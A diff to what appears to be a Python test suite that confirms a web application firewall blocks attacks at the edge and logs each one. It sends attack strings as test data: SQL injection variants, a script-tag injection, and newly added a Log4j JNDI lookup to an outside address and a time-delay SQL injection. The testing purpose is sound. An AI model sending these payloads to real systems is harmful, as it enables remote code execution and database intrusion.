@@ -18,6 +18,12 @@ ATTACKS = [
     ("broken up by comments", "/api/login?id=1/**/union/**/select/**/1", None), ("in JSON", "/api/login", {"name": "x' OR '1"}),
     ("a script in JSON", "/api/login", {"a": [{"b": "<SCRIPT>alert(1)</script>"}]}),
 ]  # fmt: skip
+MANAGED = [
+    ("known", "that looks up a name for Log4j", "/api/login", {"name": "${jndi:ldap://198.51.100.9/x}"}),
+    ("databases", "that has the database wait", "/api/login", {"name": "x'; waitfor delay '0:0:5'--"}),
+]
+"""What rules that AWS manages end, and by which of them."""
+BLOCKED = len(ATTACKS) + len(MANAGED) + 3
 
 
 class Visitor:
@@ -47,7 +53,7 @@ def show(cloud):
     status, _, body = guest.ask("/api/login", {"name": "Aiko O'Neill, union member, selects tea"})
     holds("ordinary people pass, whatever their names", (status, json.loads(body)) == (200, {"hello": "Aiko O'Neill, union member, selects tea"}), status)
     until(lambda: cloud.invocations(made["Function"]) == 1)
-    for name, path, sent in ATTACKS:
+    for name, path, sent in [*ATTACKS, *(each[1:] for each in MANAGED)]:
         status, cache, body = attacker.ask(path, sent, Authorization="Bearer token-of-somebody")
         holds(f"an attack {name} ends at the edge", status == 403 and b"Request blocked." in body and cache == "Error from cloudfront", f"{status} {cache}")
     time.sleep(0.5)
@@ -87,12 +93,13 @@ def told(cloud, made):
     def lines():
         found = logs.filter_log_events(logGroupName=made["Log"])["events"]
         names[:] = [json.loads(each["message"]) for each in found]
-        return len(names) >= len(ATTACKS) + 3
+        return len(names) >= BLOCKED
 
     took = until(lines)
     rules = [line["terminatingRuleId"] for line in names]
     right = took is not None and rules.count("injection") == len(ATTACKS) and rules.count("guessing") == 3
-    holds("each that was blocked is a line of the log, and no other", right and len(rules) == len(ATTACKS) + 3, f"{len(rules)} lines")
+    right = right and all(rules.count(name) == 1 for name, *_ in MANAGED)
+    holds("each that was blocked is a line of the log, and no other", right and len(rules) == BLOCKED, f"{len(rules)} lines")
     text = json.dumps(names)
     holds("which knows from where, and no token", "203.0.113.66" in text and "token-of-somebody" not in text and '"REDACTED"' in text, names[0]["httpRequest"]["country"])
 
